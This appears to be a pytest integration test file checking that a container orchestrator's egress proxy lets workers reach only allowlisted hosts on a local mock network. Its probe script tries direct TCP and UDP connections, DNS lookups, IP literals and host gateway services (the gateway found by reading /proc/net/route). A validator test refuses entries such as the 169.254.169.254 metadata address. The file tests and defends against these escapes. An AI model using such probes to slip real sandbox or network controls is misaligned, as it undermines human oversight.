"""Allowlisted egress through the proxy, tried for real against a tiny local "internet".

The internet is three test web servers (images/testweb) on the proxies' outside network:
one answering as ``allowed.test`` (and ``www.allowed.test``), one as ``denied.test``, and
one reachable only by its IP address. Workers run on the internal network of an
allowlist's proxy and try every way out. No packet leaves this machine: every name used
is a ``.test`` name that only the engine's DNS knows, and every address is a test
container's.
"""

from __future__ import annotations

import contextlib
import dataclasses
import http.server
import ipaddress
import itertools
import json
import os
import socket
import struct
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from contextlib import contextmanager
from datetime import UTC, datetime

import pytest

from orchestrator import egress as contract
from orchestrator import labels
from orchestrator.docker import egress as eg
from orchestrator.docker import egress_gc as eg_gc
from orchestrator.docker import hostconfig
from orchestrator.docker.images import (
    BASE_REPOSITORY,
    WORKER_IMAGE,
    build_image,
    host_suite,
)
from orchestrator.docker.netnames import RUN_PREFIX, full_network, network_name
from orchestrator.docker.networks import release_network
from orchestrator.doctor import firewall
from orchestrator.errors import EngineError
from orchestrator.plan import ContainerSpec, Limits, Network, Tmpfs, project_key
from orchestrator.runtime.container import ContainerBackend
from tests.integration.conftest import ISOLATIONS, cli, require_gvisor, wait_until

docker = pytest.mark.docker

TESTWEB_IMAGE = "orchestrator/testweb:latest"
#: Marks what these tests create, besides the owner labels the engine adds.
TEST_LABEL = f"{labels.PREFIX}.test"
ALLOW = ["allowed.test"]


# -- pure: the allowlist and the worker's proxy variables -------------------------------------------


def test_allowlist_entries_are_normalised():
    got = eg.validate_allowlist(
        ["Allowed.TEST", "api.example.org:8443", "*.example.org", "192.0.2.10:8080", "a.b."]
    )
    assert [str(e) for e in got] == [
        "*.example.org:80",
        "*.example.org:443",
        "192.0.2.10:8080",
        "a.b:80",
        "a.b:443",
        "allowed.test:80",
        "allowed.test:443",
        "api.example.org:8443",
    ]
    assert eg.validate_allowlist(["allowed.test"]) == eg.validate_allowlist(
        ["allowed.test:443", "ALLOWED.test:80", "allowed.test"]
    )
    wildcard = eg.AllowEntry("*.example.org", 443)
    assert wildcard.matches("www.example.org", 443)
    assert wildcard.matches("a.b.example.org", 443)
    assert not wildcard.matches("example.org", 443)  # the apex is not covered
    assert not wildcard.matches("badexample.org", 443)
    assert not wildcard.matches("www.example.org", 80)


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("", "is empty"),
        ("   ", "is empty"),
        ("https://example.org", "without scheme"),
        ("example.org/path", "without scheme"),
        ("user@example.org", "without scheme"),
        ("example.org:0", "port"),
        ("example.org:65536", "port"),
        ("example.org:http", "port"),
        ("example.org:", "port"),
        ("*", "allow everything"),
        ("*.org", "wildcard must cover a domain"),
        ("www.*.example.org", "whole first label"),
        ("*example.org", "whole first label"),
        ("**.example.org", "whole first label"),
        ("10.0.0.0/8", "IP ranges"),
        ("10.0.0.1-10.0.0.9", "IP ranges"),
        ("10.0.0", "IPv4"),
        ("999.1.1.1", "IPv4"),
        ("127.0.0.1", "loopback"),
        ("169.254.169.254", "link-local"),
        ("[::1]:443", "IPv6"),
        ("2001:db8::1", "IPv6"),
        ("localhost", "fully qualified"),
        ("-bad.example.org", "DNS label"),
        ("exa_mple.org", "DNS label"),
        ("a..b", "DNS label"),
        ("bücher.example", "xn--"),
        ("two words.org", "white space"),
    ],
)
def test_invalid_allowlist_entries_are_refused_with_the_fix(entry, message):
    with pytest.raises(ValueError, match="allow\\[1\\]") as info:
        eg.validate_allowlist(["fine.example.org", entry])
    assert message in str(info.value)


def test_every_invalid_entry_is_listed_and_empty_lists_are_refused():
    with pytest.raises(ValueError, match="allow\\[0\\]") as info:
        eg.validate_allowlist(["*", "ok.example.org", "http://x.org"])
    assert str(info.value).count("\n") == 1  # two problems, one line each
    with pytest.raises(ValueError, match="empty"):
        eg.validate_allowlist([])
    with pytest.raises(ValueError, match="list"):
        eg.validate_allowlist("allowed.test")


def test_proxy_env_points_every_client_at_the_proxy():
    egress = eg.Egress("http://proxy:3128", "cid", "0123456789abcdef")
    env = eg.proxy_env(egress)
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
        assert env[name] == "http://proxy:3128"
    assert env["NO_PROXY"] == env["no_proxy"] == "localhost,127.0.0.1"


# -- the local internet -----------------------------------------------------------------


def _remove_test_objects(engine, web_ids, keys):
    for cid in web_ids:
        engine.remove(cid)
    for key in keys:
        try:
            eg_gc.remove_egress(engine, key)
        except EngineError:
            # A probe container was left attached; remove everything of ours, then retry.
            for obj in engine.list_managed():
                if obj.kind == "container" and obj.labels.get(TEST_LABEL) == "egress":
                    engine.remove(obj.id)
            eg_gc.remove_egress(engine, key)


def build_test_images(engine) -> None:
    """The proxy and the test web server's images (the engine's build cache makes a
    second build cheap), so that a test needing them does not rely on an earlier one."""
    base = f"{BASE_REPOSITORY}:{host_suite()}"
    if not engine.image_exists(base):  # the engine fixture's build_all makes it
        pytest.fail(f"base image {base} missing")
    eg.build_proxy_image(engine, base)
    build_image(engine, "testweb", TESTWEB_IMAGE, base, lambda _: None)


@pytest.fixture(scope="module")
def internet(engine):
    """Build the images, start the test servers; remove everything at the end."""
    build_test_images(engine)
    keys: set[str] = set()
    web_ids: list[str] = []
    try:
        outside = eg.ensure_outside_network(engine)
        servers = {
            "allowed": ["allowed.test", "www.allowed.test"],
            "denied": ["denied.test"],
            "ipweb": [],
        }
        addresses = {}
        aliases_of = {}
        for name, aliases in servers.items():
            cid = _start_server(engine, name, aliases, outside)
            web_ids.append(cid)
            aliases_of[cid] = aliases
            info = engine.api.inspect_container(cid)
            addresses[name] = info["NetworkSettings"]["Networks"][eg.OUTSIDE_NETWORK]["IPAddress"]
        _wait_for_servers(engine, web_ids)
        yield {
            "addresses": addresses,
            "keys": keys,
            "outside": outside,
            "web_ids": web_ids,
            "aliases": aliases_of,
        }
    finally:
        keys.add(eg.allowlist_key(eg.validate_allowlist(ALLOW)))
        _remove_test_objects(engine, web_ids, keys)
    # Test objects of this process (other test files, under `pytest -n` or in another
    # checkout, label theirs too), and the proxies of this module's allowlists.
    mine = str(os.getpid())
    left = [
        o
        for o in engine.list_managed()
        if (o.labels.get(TEST_LABEL) and o.labels.get(labels.OWNER_PID) == mine)
        or o.labels.get(eg.EGRESS_KEY) in keys
    ]
    assert not left, f"egress tests left objects behind: {left}"
    if not eg_gc.egress_keys(engine):  # no other proxy on this engine: the outside bridge went too
        names = [n["Name"] for n in engine.api.networks(names=[eg.OUTSIDE_NETWORK])]
        assert eg.OUTSIDE_NETWORK not in names


def _start_server(engine, name, aliases, outside):
    host_config = engine.api.create_host_config(
        read_only=True,
        cap_drop=["ALL"],
        security_opt=["no-new-privileges:true"],
        sysctls={"net.ipv4.ip_unprivileged_port_start": "0"},
        mem_limit=128 << 20,
        pids_limit=64,
        network_mode=eg.OUTSIDE_NETWORK,
    )
    created = engine.api.create_container(
        image=TESTWEB_IMAGE,
        name=f"orchestrator-test-{name}-{os.getpid()}",
        environment={"TESTWEB_NAME": name},
        labels=engine.labels_for({TEST_LABEL: "egress"}),
        host_config=host_config,
        networking_config={"EndpointsConfig": {eg.OUTSIDE_NETWORK: {"Aliases": aliases}}},
        use_config_proxy=False,
    )
    cid = created["Id"]
    try:
        engine.start(cid)
    except BaseException:
        engine.remove(cid)
        raise
    return cid


def _wait_for_servers(engine, ids, timeout=20.0):
    deadline = time.monotonic() + timeout
    for cid in ids:
        while b"listening" not in engine.api.logs(cid):
            assert time.monotonic() < deadline, engine.api.logs(cid).decode()
            time.sleep(0.05)


@pytest.fixture(scope="module")
def egress(engine, internet):
    allow = eg.validate_allowlist(ALLOW)
    internet["keys"].add(eg.allowlist_key(allow))
    return eg.ensure_egress(engine, allow)


@contextmanager
def run_net(engine, egress):
    """A run's own internal network with ``egress`` attached as ``proxy``; removed after."""
    name = f"orchestrator-run-test-{uuid.uuid4().hex[:10]}"
    engine.api.create_network(
        name, driver="bridge", internal=True, labels=engine.labels_for({TEST_LABEL: "egress"})
    )
    try:
        eg.attach(engine, egress, name)
        yield name
    finally:
        assert release_network(engine, name)


def on_run_network(spec, name):
    """``spec`` on the run network ``name`` (as :func:`run_net` makes them): the plan says
    ``allowlist``, and the adapter names the network after the run id."""
    assert name.startswith(RUN_PREFIX)
    spec = dataclasses.replace(spec, network=Network("allowlist"), run_id=name[len(RUN_PREFIX) :])
    assert network_name(spec) == name
    return spec


def create_on(engine, spec, network):
    """A container for ``spec`` on the network named ``network``: a run network through the
    engine, any other (the test servers' outside network, which no plan names) with the
    same rendered config and that network in place of the plan's."""
    if network.startswith(RUN_PREFIX):
        return engine.create(on_run_network(spec, network))
    # Rendered as a networked run (an allowlist: every engine takes one; Podman refuses
    # `full`), then put on the test's network instead of the run's own.
    networked = dataclasses.replace(spec, network=Network("allowlist"))
    config = hostconfig.host_config(networked, engine.runtime_for(networked))
    config["network_mode"] = network
    # Not a worker's place: the network's own resolver, as any container there has (a
    # worker's "no resolver" would leave Podman's containers without the test's names).
    config["dns"] = None
    created = engine.api.create_container(
        **hostconfig.container_config(networked),
        labels=engine.labels_for(spec.labels),
        host_config=engine.api.create_host_config(**config),
        use_config_proxy=False,
    )
    return created["Id"]


def run_probe(engine, network, script, *, env=None, timeout=90, isolation="runc"):
    """Run ``script`` in a hardened worker container on ``network``; return (code, output)."""
    spec = ContainerSpec(
        image=WORKER_IMAGE,
        command=["python3", "-c", textwrap.dedent(script)],
        uid=10001,
        gid=10001,
        env={"HOME": "/tmp", "RES_OPTIONS": "timeout:1 attempts:1", **(env or {})},
        seccomp=None,
        limits=Limits(memory=256 << 20, cpus=1.0, pids=64, timeout_s=timeout),
        tmpfs=[Tmpfs("/tmp", size=16 << 20)],
        labels={labels.RUN_ID: "egress-test", labels.WORKER: "probe", TEST_LABEL: "egress"},
        worker="probe",
        isolation=isolation,
    )
    cid = create_on(engine, spec, network)
    try:
        engine.start(cid)
        code = engine.wait(cid, timeout)
        output = engine.api.logs(cid, stdout=True, stderr=True).decode(errors="replace")
    finally:
        engine.remove(cid)
    assert code is not None, f"probe timed out:\n{output}"
    return code, output


#: Runs inside a worker: every way out, each reported as one JSON line.
PROBE = r"""
import json, socket, ssl, threading, urllib.error, urllib.request

results = {}

def fetch(key, url):
    context = ssl._create_unverified_context()
    try:
        with urllib.request.urlopen(url, timeout=15, context=context) as answer:
            results[key] = ["ok", answer.status, answer.read().decode().strip()]
    except urllib.error.HTTPError as exc:
        results[key] = ["http-error", exc.code, ""]
    except OSError as exc:
        results[key] = ["os-error", 0, str(getattr(exc, "reason", exc))]

def connect(key, host, port):
    sock = socket.socket()
    sock.settimeout(3)
    try:
        sock.connect((host, port))
        results[key] = ["connected"]
    except OSError as exc:
        results[key] = ["failed", type(exc).__name__]
    finally:
        sock.close()

def resolve(key, name):
    try:
        results[key] = ["resolved", socket.getaddrinfo(name, 80)[0][4][0]]
    except OSError as exc:
        results[key] = ["failed", type(exc).__name__]

def udp(key, host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(3)
    try:
        sock.sendto(b"ping", (host, port))
        results[key] = ["answered", sock.recvfrom(100)[0].decode()]
    except OSError as exc:
        results[key] = ["failed", type(exc).__name__]
    finally:
        sock.close()

jobs = __JOBS__
threads = [threading.Thread(target=globals()[kind], args=args) for kind, *args in jobs]
for t in threads: t.start()
for t in threads: t.join()
print(json.dumps(results, sort_keys=True))
"""


def probe_script(jobs):
    return PROBE.replace("__JOBS__", json.dumps(jobs))


def last_json(output):
    return json.loads(output.strip().splitlines()[-1])


#: Prepended to a probe: replaces GATEWAY in the jobs with the container's default gateway
#: (the host, as seen from a bridge network).
GATEWAY_PROBE = r"""
import socket, struct
def _gateway():
    for line in open("/proc/net/route").read().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
GATEWAY = _gateway()
"""


def with_gateway(script):
    """A probe whose URLs naming GATEWAY use the address GATEWAY_PROBE found."""
    return script.replace('"http://GATEWAY:', '"http://" + GATEWAY + ":')


@pytest.fixture(scope="module")
def host_web():
    """A plain HTTP server on the host (all addresses, a free port); yields the port."""

    class Quiet(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = b"host web"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Quiet)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@docker
@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_allowlisted_host_is_reachable_and_everything_else_is_refused(
    engine, internet, egress, isolation
):
    if isolation == "gvisor":
        require_gvisor(engine)
    ip = internet["addresses"]
    proxy_outside_ip = engine.api.inspect_container(egress.proxy_container)["NetworkSettings"][
        "Networks"
    ][eg.OUTSIDE_NETWORK]["IPAddress"]
    since = datetime.now(UTC)
    jobs = [
        ["fetch", "http", "http://allowed.test/"],
        ["fetch", "https", "https://allowed.test/"],
        ["fetch", "denied_http", "http://denied.test/"],
        ["fetch", "denied_https", "https://denied.test/"],
        ["fetch", "other_port", "http://allowed.test:8080/"],
        ["fetch", "ip_literal", f"http://{ip['ipweb']}/"],
        ["fetch", "ip_literal_https", f"https://{ip['allowed']}/"],
        ["resolve", "dns_allowed", "allowed.test"],
        ["resolve", "dns_denied", "denied.test"],
        ["connect", "direct_allowed", ip["allowed"], 80],
        ["connect", "direct_allowed_tls", ip["allowed"], 443],
        ["connect", "direct_ipweb", ip["ipweb"], 80],
        ["connect", "direct_proxy_outside", proxy_outside_ip, 3128],
        ["udp", "udp_allowed", ip["allowed"], 9999],
        ["udp", "udp_ipweb", ip["ipweb"], 9999],
    ]
    with run_net(engine, egress) as net:
        env = eg.proxy_env(egress)
        code, output = run_probe(engine, net, probe_script(jobs), env=env, isolation=isolation)
    assert code == 0, output
    r = last_json(output)
    assert r["http"] == ["ok", 200, "testweb allowed port 80 host allowed.test"]
    assert r["https"] == ["ok", 200, "testweb allowed port 443 host allowed.test"]
    assert r["denied_http"][:2] == ["http-error", 403]
    assert r["denied_https"][0] == "os-error" and "403" in r["denied_https"][2]
    assert r["other_port"][:2] == ["http-error", 403]
    assert r["ip_literal"][:2] == ["http-error", 403]
    assert r["ip_literal_https"][0] == "os-error" and "403" in r["ip_literal_https"][2]
    assert r["dns_allowed"][0] == "failed" and r["dns_denied"][0] == "failed"
    for key in ("direct_allowed", "direct_allowed_tls", "direct_ipweb", "direct_proxy_outside"):
        assert r[key][0] == "failed", (key, r[key])
    assert r["udp_allowed"][0] == "failed" and r["udp_ipweb"][0] == "failed"

    # The same direct attempts succeed from the outside network: the servers were up, and
    # only the internal network stopped the worker.
    # The proxy serves its internal network only: from outside it refuses even allowed hosts.
    control = [
        ["connect", "direct_allowed", ip["allowed"], 80],
        ["connect", "direct_ipweb", ip["ipweb"], 80],
        ["udp", "udp_allowed", ip["allowed"], 9999],
        ["resolve", "dns_allowed", "allowed.test"],
        ["fetch", "via_proxy_from_outside", "http://allowed.test/"],
    ]
    outside_env = {"http_proxy": f"http://{proxy_outside_ip}:{contract.PROXY_PORT}"}
    code, output = run_probe(engine, eg.OUTSIDE_NETWORK, probe_script(control), env=outside_env)
    c = last_json(output)
    assert c["direct_allowed"] == ["connected"] and c["direct_ipweb"] == ["connected"]
    assert c["udp_allowed"] == ["answered", "allowed:ping"]
    assert c["dns_allowed"] == ["resolved", ip["allowed"]]
    assert c["via_proxy_from_outside"][:2] == ["http-error", 403]

    # Every decision was logged, with host, port, method and verdict.
    expected = {
        ("allowed.test", 80, True, "GET"),
        ("allowed.test", 443, True, "CONNECT"),
        ("denied.test", 80, False, "GET"),
        ("denied.test", 443, False, "CONNECT"),
        ("allowed.test", 8080, False, "GET"),
        (ip["ipweb"], 80, False, "GET"),
        (ip["allowed"], 443, False, "CONNECT"),
    }
    deadline = time.monotonic() + 10
    while True:
        got = {(d.host, d.port, d.allowed, d.method) for d in eg.decisions(engine, egress, since)}
        if expected <= got or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert expected <= got, got
    # ... and nothing else but the outside client's refused request.
    assert got - expected == {("allowed.test", 80, False, "GET")}
    assert eg.decisions(engine, egress, datetime.now(UTC)) == []


# -- with the host firewall rule in place (docs/network.md, Limits) ---------------------------


def _gateway_of(engine, network):
    """The host's address on ``network`` (its gateway); None when it has none (Podman's run
    networks: no DNS, so no gateway; Podman says ``<nil>``)."""
    for config in (engine.api.inspect_network(network).get("IPAM") or {}).get("Config") or []:
        with contextlib.suppress(ValueError):
            return str(ipaddress.ip_address(str(config.get("Gateway")).split("/")[0]))
    return None


def _first_addresses(engine, network):
    """The first address of each of ``network``'s subnets: where a bridge's own address
    usually is, gateway or not (the doctor's probe tries it too)."""
    configs = (engine.api.inspect_network(network).get("IPAM") or {}).get("Config") or []
    return [
        str(next(ipaddress.ip_network(c["Subnet"]).hosts())) for c in configs if c.get("Subnet")
    ]


def _another_host_address(exclude):
    """A local IPv4 address of this host on none of the egress bridges (Docker's own bridge
    first: it faces no network outside this machine)."""
    listed = subprocess.run(
        ["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True, check=True
    ).stdout
    found = []
    for line in listed.splitlines():
        fields = line.split()
        link, address = fields[1], fields[3].split("/")[0]
        if link != "lo" and not link.startswith("oeg-") and address not in exclude:
            found.append((link != "docker0", address))
    assert found, listed
    return [address for _, address in sorted(found)]


@contextmanager
def host_services(port53_on):
    """On the host: a TCP listener and a UDP echo on every address (free ports), and a TCP
    listener and a UDP echo on port 53 of the first address of ``port53_on`` that has that
    port free. Yields (tcp port, udp port, that address)."""
    made = []
    stop = threading.Event()
    echoes = []

    def udp_echo(sock):
        while not stop.is_set():
            try:
                data, peer = sock.recvfrom(512)
            except TimeoutError:
                continue
            sock.sendto(b"host:" + data, peer)

    def bind(kind, address, port):
        sock = socket.socket(socket.AF_INET, kind)
        try:
            sock.bind((address, port))
        except OSError:
            sock.close()
            raise
        made.append(sock)
        if kind == socket.SOCK_STREAM:
            sock.listen(16)
        else:
            sock.settimeout(0.2)
            echoes.append(threading.Thread(target=udp_echo, args=(sock,), daemon=True))
            echoes[-1].start()
        return sock.getsockname()[1]

    try:
        tcp, udp = bind(socket.SOCK_STREAM, "0.0.0.0", 0), bind(socket.SOCK_DGRAM, "0.0.0.0", 0)
        dns_at = None
        for address in port53_on:
            try:
                bind(socket.SOCK_DGRAM, address, 53)
                bind(socket.SOCK_STREAM, address, 53)
            except OSError:
                continue
            dns_at = address
            break
        assert dns_at, f"port 53 is taken on every one of {port53_on}"
        yield tcp, udp, dns_at
    finally:
        stop.set()
        for thread in echoes:
            thread.join()
        for sock in made:
            sock.close()


def _host_reaches(address, tcp, udp):
    """The control: the host itself reaches the listeners on ``address``."""
    with socket.create_connection((address, tcp), timeout=3):
        pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.sendto(b"ping", (address, udp))
        assert sock.recvfrom(100)[0] == b"host:ping"


@docker
@pytest.mark.serial  # the host firewall
@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_with_the_host_rule_the_way_out_works_and_no_host_service_is_reached(
    engine, internet, egress, isolation
):
    """The rule as `orchestrator doctor --fix` and `scripts/ensure-engine.sh --gvisor` apply
    it. The proxy still resolves and reaches the allowed host (on Podman through its DNS on
    the outside bridge's address: the exception), and neither a worker on a run's network
    nor a container on the proxies' outside network reaches a host service: not on its
    gateway, not on another host address, not on port 53 anywhere but the engine's own DNS.
    """
    from tests import host_firewall

    if isolation == "gvisor":
        require_gvisor(engine)
    run_id = f"hostrule{uuid.uuid4().hex[:8]}"
    spec = dataclasses.replace(
        _probe_spec(), network=Network("allowlist", allow=ALLOW), run_id=run_id, worker="probe"
    )
    with host_firewall.with_the_host_rule() as applied:
        drop = [rule for rule in host_firewall.DROPS if host_firewall.present(rule)]
        assert drop and all(map(host_firewall.present, firewall.ENGINE_DNS_RULES)), applied
        network = engine.set_up_network(spec).name
        try:
            run_gateway = _gateway_of(engine, network)  # Docker's; Podman's run has none
            outside_gateway = _gateway_of(engine, eg.OUTSIDE_NETWORK)
            assert outside_gateway
            gateways = [a for a in (run_gateway, outside_gateway) if a]
            others = _another_host_address(gateways)
            # Port 53 where no engine's DNS is: the run's gateway (Docker), else another
            # host address.
            with host_services([*gateways[:-1], *others]) as (tcp, udp, dns_at):
                for address in (*gateways, dns_at):
                    _host_reaches(address, tcp, udp)
                _host_reaches(dns_at, 53, 53)
                jobs = [
                    ["fetch", "http", "http://allowed.test/"],
                    ["fetch", "https", "https://allowed.test/"],
                    ["fetch", "denied", "http://denied.test/"],
                ]
                firsts = _first_addresses(engine, network)
                for address in dict.fromkeys((*gateways, *firsts, others[0], dns_at)):
                    jobs += [
                        ["connect", f"tcp {address}", address, tcp],
                        ["udp", f"udp {address}", address, udp],
                    ]
                jobs += [
                    ["connect", f"tcp53 {dns_at}", dns_at, 53],
                    ["udp", f"udp53 {dns_at}", dns_at, 53],
                ]
                code, output = run_probe(
                    engine,
                    network,
                    probe_script(jobs),
                    env=eg.proxy_env(egress),
                    isolation=isolation,
                )
                assert code == 0, output
                worker = last_json(output)
                # The proxies' side, where the exception applies: a container there.
                outside_jobs = [
                    ["resolve", "dns", "allowed.test"],
                    ["connect", "tcp gateway", outside_gateway, tcp],
                    ["udp", "udp gateway", outside_gateway, udp],
                    ["connect", "tcp53 elsewhere", dns_at, 53],
                    ["udp", "udp53 elsewhere", dns_at, 53],
                ]
                code, output = run_probe(
                    engine, eg.OUTSIDE_NETWORK, probe_script(outside_jobs), isolation=isolation
                )
                assert code == 0, output
                outside = last_json(output)
        finally:
            assert release_network(engine, network)
    assert worker.pop("http") == ["ok", 200, "testweb allowed port 80 host allowed.test"]
    assert worker.pop("https") == ["ok", 200, "testweb allowed port 443 host allowed.test"]
    assert worker.pop("denied")[:2] == ["http-error", 403]
    assert {key: value[0] for key, value in worker.items()} == dict.fromkeys(worker, "failed")
    assert outside.pop("dns") == ["resolved", internet["addresses"]["allowed"]]
    assert {key: value[0] for key, value in outside.items()} == dict.fromkeys(outside, "failed")


@docker
def test_the_same_allowlist_reuses_the_running_proxy(engine, egress):
    started = time.perf_counter()
    again = eg.ensure_egress(engine, eg.validate_allowlist(["ALLOWED.test:443", "allowed.test"]))
    elapsed = time.perf_counter() - started
    assert again == egress
    assert elapsed < 0.5, f"reusing the proxy took {elapsed:.3f} s"


@docker
def test_the_proxy_is_hardened_and_shared_not_owned(engine, egress):
    info = engine.api.inspect_container(egress.proxy_container)
    host = info["HostConfig"]
    assert host["ReadonlyRootfs"] is True
    assert host["CapDrop"] == ["ALL"] and not host["CapAdd"]
    assert "no-new-privileges:true" in host["SecurityOpt"]
    assert any(opt.startswith("seccomp=") for opt in host["SecurityOpt"])
    ulimits = {u["Name"]: (u["Soft"], u["Hard"]) for u in host["Ulimits"]}
    assert ulimits == {"nofile": (contract.PROXY_NOFILE, contract.PROXY_NOFILE), "core": (0, 0)}
    assert host["Memory"] == host["MemorySwap"] == contract.PROXY_MEMORY
    assert host["PidsLimit"] == contract.PROXY_PIDS
    assert host["Privileged"] is False
    users = {
        row[1] for row in engine.api.top(egress.proxy_container, ps_args="-o pid,user")["Processes"]
    }
    assert "root" not in users and "0" not in users, users
    got = info["Config"]["Labels"]
    assert got[labels.MANAGED] == "true" and got[eg.SHARED] == "true"
    assert (
        got[eg.EGRESS_KEY] == egress.key
        and got[eg.EGRESS_ALLOW] == "allowed.test:80 allowed.test:443"
    )
    # Shared objects outlive their creator: no owner (set explicitly, never an image's).
    assert got[labels.OWNER_PID] == "" and got[labels.OWNER_NS] == ""
    # Between runs the proxy sits on the outside network only; each run's network is the
    # run's own, joined by the proxy for the run's duration.
    assert set(info["NetworkSettings"]["Networks"]) == {eg.OUTSIDE_NETWORK}
    assert info["Config"]["Healthcheck"]["Test"] == list(contract.PROXY_HEALTH.test)
    with run_net(engine, egress) as net:
        network = engine.api.inspect_network(net)
        assert network["Internal"] is True
        assert set(network["Containers"]) == {egress.proxy_container}
    assert set(network["Containers"]) == {egress.proxy_container}


@docker
def test_wildcards_exact_ports_and_listed_ip_literals(engine, internet):
    ip = internet["addresses"]
    allow = eg.validate_allowlist(["*.allowed.test:8080", f"{ip['ipweb']}:80"])
    internet["keys"].add(eg.allowlist_key(allow))
    egress = eg.ensure_egress(engine, allow)
    jobs = [
        ["fetch", "sub_8080", "http://www.allowed.test:8080/"],
        ["fetch", "apex_8080", "http://allowed.test:8080/"],
        ["fetch", "sub_80", "http://www.allowed.test/"],
        ["fetch", "ip_80", f"http://{ip['ipweb']}/"],
        ["fetch", "ip_8080", f"http://{ip['ipweb']}:8080/"],
        ["fetch", "denied", "http://denied.test:8080/"],
    ]
    with run_net(engine, egress) as net:
        code, output = run_probe(engine, net, probe_script(jobs), env=eg.proxy_env(egress))
    assert code == 0, output
    r = last_json(output)
    assert r["sub_8080"] == ["ok", 200, "testweb allowed port 8080 host www.allowed.test:8080"]
    assert r["apex_8080"][:2] == ["http-error", 403]  # a wildcard does not cover the apex
    assert r["sub_80"][:2] == ["http-error", 403]  # DOMAIN:PORT means that port only
    assert r["ip_80"] == ["ok", 200, f"testweb ipweb port 80 host {ip['ipweb']}"]
    assert r["ip_8080"][:2] == ["http-error", 403]
    assert r["denied"][:2] == ["http-error", 403]


RACE = """
import sys, time
from orchestrator.docker import DockerEngine
from orchestrator.docker import egress as eg
from orchestrator.docker import egress_gc as eg_gc
engine = DockerEngine()
allow = eg.validate_allowlist(["race.test"])
time.sleep(max(0.0, float(sys.argv[1]) - time.time()))
print(eg.ensure_egress(engine, allow).proxy_container)
"""


@docker
def test_two_processes_setting_up_the_same_allowlist_share_one_proxy(engine, internet):
    key = eg.allowlist_key(eg.validate_allowlist(["race.test"]))
    internet["keys"].add(key)
    start_at = str(time.time() + 1.5)  # both past their imports, then at the same moment
    racers = [
        subprocess.Popen(
            [sys.executable, "-c", RACE, start_at],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]
    results = [racer.communicate(timeout=60) for racer in racers]
    assert [racer.returncode for racer in racers] == [0, 0], results
    ids = {out.strip() for out, _ in results}
    assert len(ids) == 1, results
    containers = engine.api.containers(all=True, filters={"label": f"{eg.EGRESS_KEY}={key}"})
    networks = engine.api.networks(filters={"label": f"{eg.EGRESS_KEY}={key}"})
    assert [c["Id"] for c in containers] == list(ids)
    assert networks == []  # a proxy has no network of its own: runs bring theirs


@docker
def test_idle_rules_and_removal_leave_nothing(engine, internet):
    allow = eg.validate_allowlist(["idle.test"])
    key = eg.allowlist_key(allow)
    internet["keys"].add(key)
    egress = eg.ensure_egress(engine, allow)
    assert not eg_gc.is_idle(engine, key, 60)  # just started: a run may be on its way
    # A run's network, with a worker that exists (even before it starts), keeps the proxy
    # busy.
    spec_script = "import time; time.sleep(60)"
    spec = dataclasses.replace(
        _probe_spec(),
        command=["python3", "-c", spec_script],
        env={"HOME": "/tmp", **eg.proxy_env(egress)},
    )
    with run_net(engine, egress) as net:
        worker = engine.create(on_run_network(spec, net))
        try:
            assert not eg_gc.is_idle(engine, key, 0)
            proxy_labels = engine.api.inspect_container(egress.proxy_container)["Config"]["Labels"]
            assert not eg_gc.is_idle(engine, proxy_labels, 0)
            with pytest.raises(EngineError, match="still used"):
                eg_gc.remove_egress(engine, key)
            assert engine.api.inspect_container(egress.proxy_container)["State"]["Running"]
        finally:
            engine.remove(worker)
    time.sleep(0.05)
    assert eg_gc.is_idle(engine, key, 0)
    assert eg_gc.is_idle(engine, egress.proxy_container, 0)
    assert not eg_gc.is_idle(engine, {labels.MANAGED: "true"}, 0)  # not an egress object
    removed = eg_gc.remove_egress(engine, key)
    assert f"{eg.PROXY_PREFIX}{key}" in removed
    assert key not in eg_gc.egress_keys(engine)
    assert not engine.api.containers(all=True, filters={"label": f"{eg.EGRESS_KEY}={key}"})
    assert not engine.api.networks(filters={"label": f"{eg.EGRESS_KEY}={key}"})
    # The shared outside network stays while the test servers use it.
    names = [n["Name"] for n in engine.api.networks(names=[eg.OUTSIDE_NETWORK])]
    assert eg.OUTSIDE_NETWORK in names
    assert not eg_gc.is_idle(engine, {eg.SHARED: "true", eg.EGRESS_ROLE: "outside"}, 0)
    # A removed proxy comes back on the next use.
    again = eg.ensure_egress(engine, allow)
    assert again.proxy_container != egress.proxy_container
    assert eg_gc.remove_idle_egress(engine, 3600) == []  # young: kept
    removed = eg_gc.remove_egress(engine, key)
    assert f"{eg.PROXY_PREFIX}{key}" in removed


@docker
def test_a_stopped_proxy_is_replaced_and_a_broken_one_fails_fast(engine, internet, monkeypatch):
    allow = eg.validate_allowlist(["stale.test"])
    key = eg.allowlist_key(allow)
    internet["keys"].add(key)
    first = eg.ensure_egress(engine, allow)
    engine.kill(first.proxy_container)
    engine.wait(first.proxy_container, 10)
    second = eg.ensure_egress(engine, allow)
    assert second.proxy_container != first.proxy_container
    state = engine.api.inspect_container(second.proxy_container)["State"]
    assert state["Running"]
    eg_gc.remove_egress(engine, key)

    # An image that exits at once (here: the worker image) is reported with its log, at
    # once rather than at the timeout, and its container is removed.
    monkeypatch.setattr(eg, "PROXY_IMAGE", WORKER_IMAGE)
    started = time.monotonic()
    with pytest.raises(EngineError, match="exited with code 0 before accepting"):
        eg.ensure_egress(engine, allow, timeout=60)
    assert time.monotonic() - started < 20
    assert not engine.api.containers(all=True, filters={"label": f"{eg.EGRESS_KEY}={key}"})


# -- end to end: declarations → plan → run → decisions in the result and the audit log ----


@docker
def test_worker_files_get_none_allowlist_or_full_end_to_end(
